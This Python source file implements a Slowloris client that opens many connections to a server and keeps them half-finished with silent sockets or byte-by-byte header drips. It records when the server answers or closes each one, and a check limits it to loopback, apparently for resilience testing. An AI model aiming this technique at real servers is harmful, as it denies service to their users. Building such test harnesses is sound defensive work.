"""Slowloris clients: connections that hold a server's attention and never finish a request.

Half of them connect and send nothing; the other half send the start of a request
(``GET <path> HTTP/1.1``, ``Host``, and the name of one more header) and then one
more byte of that header's value every ``drip_interval`` seconds, never the blank
line that would end the headers. A thread drips and watches every socket, noting
when the server answers one (e.g. ``408``) or closes it.
"""

from __future__ import annotations

import random
import selectors
import socket
import threading
import time
from typing import Any

import attrs


@attrs.define(eq=False)
class SlowSocket:
    sock: socket.socket
    drips: bool  # False: silent, sends nothing at all
    opened: float
    next_drip: float
    sent: int = 0
    answered: bool = False  # the server sent bytes (an error answer)
    closed_after: float | None = None  # seconds from opening until the server closed it


@attrs.define
class SlowLoris:
    """``count`` slow connections to ``host:port``, kept until ``close()``."""

    host: str
    port: int
    count: int
    path: str
    drip_interval: float = 5.0
    sockets: list[SlowSocket] = attrs.field(factory=list)
    failed_to_open: list[str] = attrs.field(factory=list)
    _selector: selectors.BaseSelector = attrs.field(factory=selectors.DefaultSelector)
    _stop: threading.Event = attrs.field(factory=threading.Event)
    _thread: threading.Thread | None = None
    _lock: threading.Lock = attrs.field(factory=threading.Lock)

    def open(self) -> None:
        """Connect every socket (the drippers send their first bytes), then start dripping."""
        if self.host not in ("127.0.0.1", "localhost"):
            raise ValueError(f"slowloris only on loopback, not {self.host}")
        head = (
            f"GET {self.path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\nX-Slowloris: "
        ).encode()
        rng = random.Random(7)
        for i in range(self.count):
            try:
                sock = socket.create_connection((self.host, self.port), timeout=10)
            except OSError as exc:
                self.failed_to_open.append(f"{type(exc).__name__}: {exc}")
                continue
            drips = i % 2 == 1
            now = time.monotonic()
            if drips:
                sock.sendall(head)
            sock.setblocking(False)
            slow = SlowSocket(
                sock, drips, now, now + rng.uniform(0, self.drip_interval), sent=len(head) * drips
            )
            self.sockets.append(slow)
            self._selector.register(sock, selectors.EVENT_READ, slow)
        self._thread = threading.Thread(target=self._run, daemon=True, name="slowloris")
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            for key, _ in self._selector.select(timeout=0.2):
                self._readable(key.data)
            now = time.monotonic()
            with self._lock:
                due = [s for s in self.sockets if s.drips and s.closed_after is None]
            for slow in due:
                if slow.next_drip <= now:
                    slow.next_drip += self.drip_interval
                    try:
                        slow.sent += slow.sock.send(b"a")
                    except BlockingIOError:
                        pass
                    except OSError:
                        self._closed(slow)

    def _readable(self, slow: SlowSocket) -> None:
        try:
            data = slow.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data:
            slow.answered = True
        else:
            self._closed(slow)

    def _closed(self, slow: SlowSocket) -> None:
        if slow.closed_after is None:
            slow.closed_after = time.monotonic() - slow.opened
            self._selector.unregister(slow.sock)

    def still_open(self) -> int:
        with self._lock:
            return sum(1 for s in self.sockets if s.closed_after is None)

    def summary(self) -> dict[str, Any]:
        with self._lock:
            closed = sorted(s.closed_after for s in self.sockets if s.closed_after is not None)
            return {
                "asked": self.count,
                "opened": len(self.sockets),
                "failed_to_open": len(self.failed_to_open),
                "first_failure": self.failed_to_open[0] if self.failed_to_open else None,
                "still_open": len(self.sockets) - len(closed),
                "closed_by_server": len(closed),
                "answered_by_server": sum(1 for s in self.sockets if s.answered),
                "closed_after_s_min": closed[0] if closed else None,
                "closed_after_s_max": closed[-1] if closed else None,
                "bytes_sent": sum(s.sent for s in self.sockets),
                "drip_interval_s": self.drip_interval,
            }

    def close(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(5)
        with self._lock:
            for slow in self.sockets:
                slow.sock.close()
        self._selector.close()
